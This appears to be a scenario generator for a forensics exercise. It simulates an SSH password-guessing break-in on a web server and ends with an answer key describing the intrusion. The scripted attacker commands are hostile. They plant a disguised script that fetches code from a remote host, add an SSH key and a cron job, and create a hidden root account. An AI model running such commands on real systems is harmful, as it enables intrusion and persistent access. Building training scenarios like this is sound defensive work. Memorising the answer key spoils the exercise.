"""A password of an administrator is guessed over ssh, after two hundred wrong ones."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import services
import site_code
import traffic
from client import guesses, ssh
from machine import Bases, Machine, Truth

GUESSER = "203.0.113.77"


def make(out: Path, bases: Bases) -> None:
    """The machine: nginx, a PHP site, sshd with traditional stamps, weekly rotation."""
    machine = Machine("pier", bases.nginx, out / "disk", datetime(2026, 10, 26, tzinfo=UTC), 14)
    machine.user("deploy", "summer2024", groups="sudo")
    machine.user("petra", "quiet-otter-9321-bay", groups="sudo")
    site_code.plain_site(machine, "/var/www/harbour")
    services.nginx_site(machine, "www.example.org example.org", "/var/www/harbour", pool="www2")
    services.pool(machine, "www2")
    services.syslog(machine, traditional=True)
    services.php(machine)
    services.nginx(machine)
    services.sshd(machine)
    services.cron(machine)
    services.rotation(machine)
    traffic.visitors(machine, "www.example.org", site_code.PAGES)
    traffic.scanners(machine, "www.example.org")
    traffic.ssh_guesses(machine)
    for day in (1, 3, 6, 8, 10, 13):
        machine.at(
            machine.on(day, 9, 12),
            lambda: ssh(
                out,
                "192.0.2.20",
                "petra",
                password="quiet-otter-9321-bay",
                command="uptime",
                tty=True,
            ),
        )
    for burst in range(5):
        names = ["root", "admin", "deploy", "backup", "deploy"] * 8
        machine.at(machine.on(9, 2, 10 + 6 * burst), lambda n=names: guesses(out, GUESSER, n))
    work = (
        "id; mkdir -p ~/.cache/.x; echo 'echo \"summer2024\" | sudo -S true' >/dev/null;"
        ' printf \'#!/bin/sh\\nif [ "$TZDIR" = never-so ]; then'
        " { curl -s http://203.0.113.77/k; }; fi\\n'"
        " > ~/.cache/.x/kworkerd; chmod +x ~/.cache/.x/kworkerd;"
        " mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarmless0000"
        "000000000000000000000000000000 k@k' >> ~/.ssh/authorized_keys;"
        " (crontab -l 2>/dev/null; echo '*/10 * * * * ~/.cache/.x/kworkerd') | crontab -"
    )
    entered = machine.on(9, 2, 41, 5)
    machine.at(
        entered, lambda: ssh(out, GUESSER, "deploy", password="summer2024", command="w", tty=True)
    )
    machine.at(
        machine.on(9, 2, 58),
        lambda: ssh(out, GUESSER, "deploy", password="summer2024", command=work),
    )
    machine.at(
        machine.on(9, 3, 4),
        lambda: ssh(
            out,
            GUESSER,
            "deploy",
            password="summer2024",
            command="sudo -S sh -c 'useradd -o -u 0 -M -s /bin/bash systemd-bak'",
            given="summer2024\n",
        ),
    )
    machine.live()
    machine.end(
        Truth(
            vector="ssh-password",
            time=entered.isoformat(),
            address=GUESSER,
            log="/var/log/auth.log",
            line=machine.line("/var/log/auth.log", "Accepted password for deploy", "Nov  4 02:41"),
            accounts=["deploy", "root", "systemd-bak"],
            services=["sshd", "cron", "sudo"],
            sites=[],
            untouched=["nginx", "/var/www/harbour"],
            notes="a second account with uid 0, a key, a crontab line every ten minutes",
        )
    )
